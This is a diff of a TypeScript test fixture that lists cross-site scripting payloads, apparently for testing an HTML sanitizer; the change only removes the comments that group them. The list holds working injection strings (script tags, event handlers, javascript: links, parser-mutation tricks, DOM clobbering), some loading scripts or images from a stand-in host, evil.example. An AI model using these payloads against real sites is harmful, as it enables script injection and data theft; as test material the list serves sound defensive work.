@@ -1,10 +1,9 @@
-/** Payloads by the trick that they try; each is to come out as words and harmless marks. */
+/** Payloads grouped by attack. */
 const own = "/ks/file/v1/content/0b9f6f1e-6a3c-4f5e-9f57-0d8e6a1c2b3d";
 
 export const cleanImage = `<img src="${own}" alt="图" />`;
 
 export const payloads: readonly string[] = [
-  // Scripts and what loads them.
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
   "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -20,7 +19,6 @@ export const payloads: readonly string[] = [
   "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
   "<applet code=x></applet><frameset onload=alert(1)><frame src=x></frameset>",
   "<portal src=https://evil.example></portal>",
-  // Handlers.
   "<img src=x onerror=alert(1)>",
   `<img src="${own}" onerror="alert(1)">`,
   `<img src='${own}' alt='" onerror="alert(1)'>`,
@@ -36,7 +34,6 @@ export const payloads: readonly string[] = [
   "<marquee onstart=alert(1)>x</marquee>",
   "<a\u000Conclick=alert(1) href=https://a.example>x</a>",
   "<p\u0000onclick=alert(1)>x</p>",
-  // Addresses.
   "<a href=javascript:alert(1)>x</a>",
   "<a href=' &#14; javascript:alert(1)'>x</a>",
   "<a href='java\tscript:alert(1)'>x</a>",
@@ -54,7 +51,6 @@ export const payloads: readonly string[] = [
   "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
   "<table background=javascript:alert(1)><tr><td background='javascript:alert(1)'>x</td></tr></table>",
   "<blockquote cite=javascript:alert(1)>x</blockquote>",
-  // Pictures from elsewhere.
   "<img src=https://evil.example/pixel.png>",
   "<img src=//evil.example/pixel.png>",
   "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
@@ -66,7 +62,6 @@ export const payloads: readonly string[] = [
   "<img src='/api/auth/csrf'>",
   `<img srcset="https://evil.example/a.png 1x" src="${own}">`,
   `<picture><source srcset=https://evil.example/a.png><img src="${own}"></picture>`,
-  // Foreign content and mutation.
   "<svg onload=alert(1)></svg>",
   "<svg><script>alert(1)</script></svg>",
   "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
@@ -91,14 +86,12 @@ export const payloads: readonly string[] = [
   "&#60;img src=x onerror=alert(1)&#62;",
   "<p>a</p><p title='>'><img src=x onerror=alert(1)></p>",
   "<custom-element onconnected=alert(1)></custom-element>",
-  // Looks, and what clobbers the page's own names.
   "<style>@import 'https://evil.example/x.css';</style>",
   "<p style='background:url(https://evil.example/x.png)'>x</p>",
   "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
   "<div style=width:expression(alert(1)) class=overlay id=cookie name=body>x</div>",
   "<a id=location name=location href=https://a.example class=button>x</a>",
   "<p hidden contenteditable tabindex=1 accesskey=x draggable=true is=x slot=y part=z>x</p>",
-  // Office programs.
   "<p class=MsoNormal style='mso-margin-top-alt:auto'><o:p>&nbsp;</o:p><b>x</b><![if !supportLists]>·<![endif]></p>",
   "<!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]--><w:sdt>x</w:sdt>",
 ];
